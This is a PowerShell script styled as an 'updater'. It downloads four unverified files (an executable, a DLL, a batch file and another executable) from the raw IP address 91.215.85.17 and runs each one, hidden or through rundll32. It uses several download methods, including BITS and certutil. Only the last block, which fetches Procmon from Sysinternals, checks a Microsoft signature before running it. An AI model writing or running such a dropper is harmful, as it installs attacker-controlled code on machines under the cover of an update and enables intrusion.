# "updater" that fetches tools onto the box and runs them
$stage = Join-Path -Path $env:TEMP -ChildPath 'upd'
New-Item -Path $stage -ItemType Directory -Force | Out-Null

$exe = Join-Path -Path $stage -ChildPath 'agent.exe'
Invoke-WebRequest -Uri 'http://91.215.85.17/agent.exe' -OutFile $exe -UseBasicParsing
Start-Process -FilePath $exe -ArgumentList '/silent' -WindowStyle Hidden

$dll = "$stage\msvcp.dll"
(New-Object System.Net.WebClient).DownloadFile('http://91.215.85.17/m.dll', $dll)
rundll32.exe $dll,DllRegisterServer

$bat = "$stage\i.bat"
Start-BitsTransfer -Source 'http://91.215.85.17/i.bat' -Destination $bat
& $bat

certutil.exe -urlcache -split -f 'http://91.215.85.17/t.exe' "$stage\t.exe"
& "$stage\t.exe" -install

# the one legitimate tool: only run it when Microsoft's signature checks out
$tool = Join-Path -Path $stage -ChildPath 'Procmon64.exe'
Invoke-WebRequest -Uri 'https://live.sysinternals.com/Procmon64.exe' -OutFile $tool -UseBasicParsing
$sig = Get-AuthenticodeSignature -FilePath $tool
if ($sig.Status -eq 'Valid' -and $sig.SignerCertificate.Subject -like '*O=Microsoft Corporation*') {
    Start-Process -FilePath $tool -ArgumentList '/AcceptEula', '/Quiet', '/Minimized'
}
